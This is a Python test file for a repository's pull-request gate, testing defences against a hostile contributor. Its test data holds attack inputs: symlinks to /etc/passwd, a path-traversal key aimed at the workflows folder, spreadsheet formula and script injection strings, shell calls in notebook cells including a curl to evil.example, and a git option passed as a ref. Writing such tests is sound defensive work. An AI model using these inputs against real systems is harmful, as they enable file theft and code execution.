"""A pull request of somebody who means harm: what it brings, and what stops it. Its artifact is in test_github.py."""

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import nbformat
import pytest
import yaml
from conftest import ROOT
from hub import Hub, recorded
from repository import Repository, told

from mutuals import book, github, states
from mutuals.book import BookError
from mutuals.check import stages
from mutuals.findings import Finding
from mutuals.schema import SchemaError
from mutuals.verdict import Verdict

Harm = Callable[[Path], None]


@pytest.fixture
def repo(core: Path, tmp_path: Path) -> Repository:
    """A copy to be harmed."""
    return Repository.copy(core, tmp_path / "repository")


def first(repo: Repository) -> list[Finding]:
    """What the first part of the gate finds, which reads the files: all that is said here must be said before anything is read on."""
    repo.save()
    return next(stages(repo.root))


def linked(name: str) -> Harm:
    """A part of the repository that is moved out of it, with a link in its place."""

    def harm(root: Path) -> None:
        outside = root.parent / "outside"
        outside.mkdir()
        shutil.move(root / name, outside / "moved")
        (root / name).symlink_to(outside / "moved")

    return harm


def added(name: str, target: str = "") -> Harm:
    """A file, or a link, that is added."""

    def harm(root: Path) -> None:
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).symlink_to(target) if target else (root / name).write_text("import os\n", encoding="utf-8")

    return harm


LINKS = {
    "data/people.csv": linked("data/people.csv"),
    "data/evidence/people.csv": linked("data/evidence/people.csv"),
    "data/codes": linked("data/codes"),
    "data": linked("data"),
    "schemas": linked("schemas"),
    "validation": linked("validation"),
    "validation/quotes.py": linked("validation/quotes.py"),
    "data/passwd.csv": added("data/passwd.csv", "/etc/passwd"),
    "data/.hidden": added("data/.hidden", "/etc/passwd"),
    "data/.lock": added("data/.lock", "/etc/passwd"),
    "schemas/passwd.json.txt": added("schemas/passwd.json.txt", "/etc/passwd"),
    "validation/known_failures.toml": lambda root: (
        (root / "validation/known_failures.toml").unlink(missing_ok=True),
        added("validation/known_failures.toml", "/etc/passwd")(root),
    )[1],
}
FILES = ["data/run.sh", "data/.run.py", "data/more/people.csv", "schemas/run.py", "schemas/more/people.json", "validation/run.so", "validation/more/run.py"]  # fmt: skip


@pytest.mark.parametrize("name", LINKS)
def test_the_gate_refuses_a_link(repo: Repository, name: str) -> None:
    """A link by which a file outside the repository is read, and published."""
    LINKS[name](repo.root)
    try:
        found = first(repo)
    except SchemaError as error:
        assert "link" in str(error)
    else:
        assert {name} & {finding.file for finding in found if finding.level == "error"}, told(found)
        assert "root:" not in told(found)


@pytest.mark.parametrize("name", FILES)
def test_the_gate_refuses_a_file_that_does_not_belong(repo: Repository, name: str) -> None:
    """A program beside the tables, or a file that hides."""
    added(name)(repo.root)
    assert name in {finding.file for finding in first(repo) if finding.rule == "layout.unknown-file"}


def test_what_programs_leave_beside_a_file_is_let_be(repo: Repository) -> None:
    """A check that fails while a spreadsheet has a table open."""
    for name in (
        "data/.~lock.people.csv#",
        "data/.DS_Store",
        "data/.people.csv.x7",
        "data/.lock",
        "data/.journal",
        "validation/.quotes.py.swp",
        "data/evidence/.~lock.people.csv#",
    ):
        added(name)(repo.root)
    added("data/.#people.csv", "someone@host.1:2")(repo.root)
    assert first(repo) == []


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "=cmd|' /C calc'!A0", "@SUM(1)", "x\u202ey", "javascript:alert(1)"])
def test_a_cell_with_a_script_or_a_formula_is_found_or_shown_as_text(repo: Repository, text: str) -> None:
    """A formula that a spreadsheet runs, or a script that a page or a comment runs."""
    row = repo.rows("spin_outs")[0]
    row["note"] = text
    repo.save()
    hidden = any(not character.isprintable() for character in text)
    assert bool(first(repo)) == (text.startswith(("=", "@")) or hidden)
    shown = github.code(text)
    assert "<script" not in shown and "@" not in shown and "\u202e" not in shown


def test_a_path_in_a_key_leads_nowhere(repo: Repository) -> None:
    """A key that is written as a file outside the site."""
    repo.rows("people")[0]["person_id"] = "../../.github/workflows/check"
    repo.save()
    assert {("people.csv", "person_id")} & {(Path(f.file).name, f.column) for f in repo.findings() if f.level == "error"}


@pytest.mark.parametrize(
    "shell", ["!curl https://evil.example", "%%bash\ncurl x", "  !ls", "%sx ls", "x = !ls", "get_ipython().system('ls')"]
)
def test_a_notebook_that_calls_the_shell_is_not_published(tmp_path: Path, shell: str) -> None:
    """A notebook that does on the machine of whoever renews it what its author likes."""
    cell = nbformat.v4.new_code_cell(shell, execution_count=1)
    path = tmp_path / "question.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[cell]), path)
    with pytest.raises(BookError, match="shell"):
        book.executed(path)


def test_our_own_notebooks_call_no_shell() -> None:
    """A rule that stops the book itself, or one that is never asked."""
    paths = sorted((ROOT / "notebooks").glob("*.ipynb"))
    for path in paths:
        book.executed(path)
    assert len(paths) > 5


def test_an_edited_workflow_gains_nothing_and_is_named_first() -> None:
    """A pull request whose own workflow says that all is well."""
    check = yaml.safe_load((ROOT / ".github/workflows/check.yml").read_text(encoding="utf-8"))
    assert "pull_request" in check[True] and check["permissions"] == {"contents": "read"}
    tell = (ROOT / ".github/workflows/tell.yml").read_text(encoding="utf-8")
    assert "workflow_run" in tell and "${{ github.event.repository.default_branch }}" in tell
    hub = Hub(files=[{"filename": ".github/workflows/tell.yml"}])
    github.post(Verdict(), recorded("workflow_run"), hub)
    first = hub.sent[0][2]["body"].split("\n\n")[0:2]
    assert "&#46;github&#47;workflows&#47;tell&#46;yml" in "\n".join(first)


def test_a_commit_with_a_link_and_a_climbing_path_is_read_without_them(core: Path, tmp_path: Path) -> None:
    """A link in a commit that is followed when two states are compared; or a ref that is taken as an option of git."""
    root = tmp_path / "clone"
    shutil.copytree(core, root)
    (root / "data/people.csv").unlink()
    (root / "data/people.csv").symlink_to("/etc/passwd")
    words = ["git", "-C", str(root), "-c", "user.name=x", "-c", "user.email=x@example.org"]
    for command in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"]):
        subprocess.run([*words, *command], check=True)
    assert "people" not in states.load(root, "HEAD").tables and "people" not in states.load(root, "").tables
    with pytest.raises(book.CommandError):
        states.load(root, "--output=/tmp/x")
    assert json.dumps(sorted(states.load(root, "HEAD").tables)).count("passwd") == 0
